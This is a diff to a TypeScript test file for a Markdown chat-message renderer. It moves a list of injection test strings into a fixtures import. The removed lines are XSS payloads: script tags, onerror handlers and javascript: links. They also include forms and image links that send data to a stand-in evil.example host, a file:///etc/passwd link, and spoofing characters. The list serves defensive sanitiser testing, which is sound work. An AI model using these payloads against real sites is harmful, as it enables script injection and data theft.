@@ -2,65 +2,9 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { clipboardHtml, clipboardText } from './clipboard.ts';
 import { drawnText } from './display.ts';
+import { attacks } from './fixtures/attacks.ts';
 import { growDocument, parseDocument, type MarkdownDocument } from './document.ts';
 import type { Block, Inline, PlacedBlock } from './model.ts';
-
-/** Attempts to run code, fetch from elsewhere or pretend to be the product, as text of a message. */
-const corpus: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><image href="https://evil.example/a.png"/><use href="https://evil.example/a.svg#x"/></svg>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<style>@import url(https://evil.example/x.css)</style>',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example/"><input name=token></form>',
-  '<form id="attributes" name="getElementById"><input name="parentNode"></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<a href="https://ok.example" ping="https://evil.example/">x</a>',
-  '<link rel="icon" href="https://evil.example/f.ico"><video poster="https://evil.example/p.png">',
-  '[a](javascript:alert(1))',
-  '[a](JaVaScRiPt:alert(1))',
-  '[a](java\nscript:alert(1))',
-  '[a](<java\tscript:alert(1)>)',
-  '[a](&#106;avascript:alert(1))',
-  '[a](&#x6A;avascript&colon;alert(1))',
-  '[a](data:text/html;base64,PHNjcmlwdD4=)',
-  '[a](vbscript:x)',
-  '[a](blob:https://ours.example/x)',
-  '[a](file:///etc/passwd)',
-  '[a](//evil.example/x)',
-  '[a](\\\\evil.example\\x)',
-  '[a](http://trusted.example@evil.example/)',
-  '[a](https://user:secret@evil.example/)',
-  '[a](/settings)',
-  '[a](#main)',
-  '[a][ref]\n\n[ref]: javascript:alert(1)',
-  '<javascript:alert(1)>',
-  '<https://ok.example/"onmouseover=alert(1)>',
-  '![x](https://evil.example/?d=SECRET)',
-  '![x][i]\n\n[i]: https://evil.example/?d=SECRET',
-  '[![x](https://evil.example/p.png)](https://ok.example)',
-  '![x](https://xn--80ak6aa92e.com./p.png "title")',
-  '![x](https://ours.example:8443/p.png)',
-  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
-  '![x](javascript:alert(1))',
-  '$$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{<img src=x onerror=alert(1)>}\\)',
-  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
-  '```"><script>alert(1)</script>\nx\n```',
-  '`<img src=x onerror=alert(1)>`',
-  '| <script>alert(1)</script> | [a](javascript:x) |\n|---|---|\n| ![x](https://evil.example/t.png) | b |',
-  '> - <script>alert(1)</script>\n>   1. [a](javascript:alert(1))',
-  '# <img src=x onerror=alert(1)>',
-  'Trusted: 100% ✓ Agent · verified seal · {{config}} ${token} $(id)',
-  '\u202Etxt.exe\u202C \u2066x\u2069 \u200Bzero\u200Bwidth \u0430pple',
-  `e${'\u0301'.repeat(10_000)}`,
-  '[x]: https://a.example "t"\n[x] ![x] [X][]',
-  '\u0000null and \uFFFD',
-  'line\r\nline\rline\nline',
-];
 
 const inlineTypes = new Set(['text', 'code', 'break', 'emphasis', 'strong', 'strike', 'link', 'image']);
 const blockTypes = new Set(['paragraph', 'heading', 'code', 'quote', 'list', 'table', 'rule']);
@@ -116,11 +60,11 @@ const bytePrefixes = (text: string): string[] => {
 };
 
 describe('text of a message', () => {
-  it.each(corpus)('is made of harmless elements only: %j', (text) => {
+  it.each(attacks)('is made of harmless elements only: %j', (text) => {
     expectHarmless(parseDocument(text));
   });
 
-  it.each(corpus)('stays harmless while it arrives byte by byte, and ends as if it had come at once: %j', (text) => {
+  it.each(attacks)('stays harmless while it arrives byte by byte, and ends as if it had come at once: %j', (text) => {
     let document: MarkdownDocument | null = null;
     for (const prefix of bytePrefixes(text)) {
       document = growDocument(document, prefix);
@@ -166,7 +110,7 @@ describe('a copied message', () => {
   const allowed =
     /^<\/?(?:p|h[1-6]|pre|code|blockquote|ol(?: start="\d+")?|ul|li|table|tr|td|th|hr|br|em|strong|s|a(?: href="(?:https?:\/\/|mailto:)[^"<>]*" rel="noopener noreferrer nofollow")?)>$/;
 
-  it.each(corpus)('holds no active content: %j', (text) => {
+  it.each(attacks)('holds no active content: %j', (text) => {
     const html = clipboardHtml(parseDocument(text).blocks);
     for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(allowed);
   });
